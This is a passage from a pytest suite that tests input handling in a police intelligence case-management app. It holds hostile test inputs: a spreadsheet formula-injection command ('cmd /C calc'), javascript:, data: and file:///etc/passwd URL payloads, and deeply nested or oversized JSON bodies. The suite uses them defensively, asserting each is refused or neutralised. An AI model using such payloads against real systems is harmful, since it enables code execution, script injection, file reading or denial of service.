    assert dangerous == []
    # Nothing is lost: the value follows the neutralising quote.
    assert "'" + FORMULAS[0] + ", " + FORMULAS[1] in cells
    assert "'=cmd|' /C calc'!A0 Synthetic Council" in cells


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        " javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
    ],
)
def test_a_non_web_social_media_address_is_refused_by_the_service_and_the_form(client, officer, make_subject, url):
    subject = make_subject("draft")
    before = written_by_api()
    with pytest.raises(ValidationError) as refused:
        evidence_services.add_evidence(
            acting_user=officer,
            subject=subject,
            summary="Synthetic post",
            information_date=timezone.localdate(),
            source_type="social_media",
            source_reference="OSINT-URL",
            source_evaluation="2",
            intelligence_assessment="C",
            handling_code="P",
            nature="assessment",
            social_media_url=url,
            social_media_platform="ExampleNet",
            captured_on=timezone.localdate(),
        )
    assert "social_media_url" in refused.value.message_dict
    client.force_login(officer)
    response = client.post(
        f"/subjects/{subject.uuid}/evidence/new/",
        {
            "summary": "Synthetic post",
            "information_date": timezone.localdate().isoformat(),
            "nature": "assessment",
            "source_type": "social_media",
            "source_reference": "OSINT-URL",
            "source_evaluation": "2",
            "intelligence_assessment": "C",
            "handling_code": "P",
            "social_media_url": url,
            "social_media_platform": "ExampleNet",
            "captured_on": timezone.localdate().isoformat(),
        },
    )
    assert response.status_code == 200 and "social_media_url" in response.context["form"].errors
    assert_inert(response.content.decode(), where=f"evidence form with {url!r}")
    assert written_by_api() == before  # sign-in and page views are logged; nothing is collected


# ---------------------------------------------------------------------------------------------------
# Malformed and oversize API bodies

VALID_BODY = {
    "borough": HACKNEY,
    "family_name": "Testperson",
    "given_names": "Alpha",
    "date_of_birth": "2004-03-02",
    "gender": "male",
    "ethnicity": "not_stated",
    "classification": "suspected",
}
TWO_MB = 2 * 1024 * 1024

MALFORMED = {
    "invalid JSON": ('{"family_name": "Testperson",', "application/json"),
    "truncated string": ('{"family_name": "Test', "application/json"),
    "not UTF-8": (b'{"family_name": "\xff\xfe\xfd"}', "application/json"),
    "JSON array": (json.dumps([VALID_BODY]), "application/json"),
    "JSON string": ('"Testperson"', "application/json"),
    "JSON number": ("42", "application/json"),
    "JSON null": ("null", "application/json"),
    "empty body": ("", "application/json"),
    "nested objects": (
        json.dumps(
            {
                **VALID_BODY,
                "family_name": {"a": {"b": [1, {"c": None}]}},
                "borough": {"code": HACKNEY},
                "date_of_birth": ["2004-03-02"],
            }
        ),
        "application/json",
    ),
    "deeply nested arrays": ("[" * 100_000 + "]" * 100_000, "application/json"),
    "deeply nested objects": ('{"a":' * 50_000 + "1" + "}" * 50_000, "application/json"),
    "2 MB string": (json.dumps({**VALID_BODY, "family_name": "x" * TWO_MB}), "application/json"),
    "2 MB of garbage": ("{" + "x" * TWO_MB, "application/json"),
    "3 MB body": (json.dumps({**VALID_BODY, "aliases": "y" * (3 * 1024 * 1024)}), "application/json"),
    "huge integer": (json.dumps(VALID_BODY)[:-1] + ', "version": ' + "9" * 5000 + "}", "application/json"),
    "NaN": (json.dumps(VALID_BODY)[:-1] + ', "version": NaN}', "application/json"),
    "NUL in a name": (json.dumps({**VALID_BODY, "family_name": "Test\x00person"}), "application/json"),
    "lone surrogate": (json.dumps(VALID_BODY).replace("Testperson", "\\ud800"), "application/json"),
    "wrong types": (
        json.dumps(
            {
                **VALID_BODY,
                "family_name": 5,
                "also_victim": "perhaps",
                "gender": ["male"],
                "date_of_birth": 20040302,
                "borough": None,
            }
        ),
        "application/json",
    ),
    "read-only fields": (
        json.dumps(
            {
                **VALID_BODY,
                "status": "approved",
                "version": 9,
                "harm_score": "99",
                "reference": "GM-2026-999999",
                "family_name": "",
            }
        ),
        "application/json",
    ),
    "plain text": ("family_name=Testperson", "text/plain"),
    "XML": ("<subject><family_name>Testperson</family_name></subject>", "application/xml"),
    "no content type": (json.dumps(VALID_BODY)[:-1], ""),
    "multipart without boundary": ("garbage", "multipart/form-data"),
    "too many form fields": ("&".join(f"f{n}=1" for n in range(5000)), "application/x-www-form-urlencoded"),
}


def written_by_api() -> tuple:
    return (
        Subject.objects.count(),
        Subject.history.model.objects.count(),
        Evidence.objects.count(),
        AccessEvent.objects.filter(action__in=["collect", "alter", "disclose", "erase"]).count(),
    )


@pytest.mark.parametrize("case", list(MALFORMED))
def test_malformed_and_oversize_bodies_get_a_clear_4xx_and_change_nothing(officer, api_as, case):
    body, content_type = MALFORMED[case]
    client = api_as(officer)
    before = written_by_api()
    response = client.generic("POST", "/api/subjects/", body, content_type=content_type)
    assert 400 <= response.status_code < 500, (case, response.status_code)
    assert response.status_code in (400, 413, 415), (case, response.status_code)
    if response["Content-Type"].startswith("application/json"):
        assert response.json(), "a 4xx from the API says what was wrong"
    assert written_by_api() == before


@pytest.mark.parametrize("case", ["invalid JSON", "JSON array", "deeply nested arrays", "2 MB string", "wrong types"])
def test_malformed_updates_change_nothing(officer, api_as, make_subject, case):
    subject = make_subject("draft")
    body, content_type = MALFORMED[case]
    before = (written_by_api(), Subject.objects.get(pk=subject.pk).version)
    response = api_as(officer).generic("PATCH", f"/api/subjects/{subject.uuid}/", body, content_type=content_type)
    assert 400 <= response.status_code < 500, (case, response.status_code)
    assert (written_by_api(), Subject.objects.get(pk=subject.pk).version) == before


def test_a_long_rejection_reason_through_the_api_is_kept_whole(supervisor, api_as, make_subject):
    """The API allows 2,000 characters; the history column holds 100 (enforced by PostgreSQL)."""
    subject = make_subject("submitted")
    reason = "Synthetic: " + "the evidence does not establish membership; " * 44
    reason = reason[:2000]
    response = api_as(supervisor).post(
        f"/api/subjects/{subject.uuid}/reject/", {"reason": reason, "version": subject.version}, format="json"
    )
    assert response.status_code == 200, response.content[:300]
    subject.refresh_from_db()
    assert subject.status == Status.REJECTED and subject.rejection_reason == reason.strip()
    assert subject.history.first().history_change_reason.endswith("…")
    too_long = api_as(supervisor).post(f"/api/subjects/{subject.uuid}/reject/", {"reason": reason + "x"}, format="json")
    assert too_long.status_code in (400, 409)


def test_long_reasons_fit_the_history_column_from_edit_to_erasure(officer, supervisor, make_subject):
    """History keeps reasons in 100 characters, which PostgreSQL enforces: a long reason typed at any step,
    or composed from one (a removal's reason revoking a disclosure), and its redaction at erasure, must fit."""
    from matrix.retention import erase_subject, system_user

    subject = make_subject("draft")
    typed = "Corrected the spelling of the family name after checking the PNC record with the officer in charge"
    subject = services.update_subject(
        acting_user=officer,
        subject=subject,
        expected_version=subject.version,
        changes={"given_names": "Beta"},
        reason=f"{typed}: see the note of the panel meeting for the details of the check",
    )
    subject = workflow.submit_subject(acting_user=officer, subject=subject)
    subject = workflow.approve_subject(acting_user=supervisor, subject=subject)
    sharing.approve_disclosure(
        acting_user=supervisor,
        disclosure=sharing.request_disclosure(
            acting_user=officer,
            subject=subject,
            agreement=AgreementFactory(),
            lawful_basis=basis("cda-1998-s115"),
            purpose="Synthetic: joint safeguarding plan agreed at panel",
            fields=["name"],
        ),
    )
    subject = workflow.remove_subject(
        acting_user=supervisor, subject=subject, reason="Synthetic: " + "no longer active. " * 40
    )
    assert subject.disclosures.get().status == DisclosureStatus.REVOKED
    erase_subject(subject, acting_user=system_user())
    for model in (Subject, Evidence, Disclosure):
        reasons = model.history.model.objects.exclude(history_change_reason=None).values_list(
            "history_change_reason", flat=True
        )
        assert all(len(reason) <= 100 for reason in reasons), model
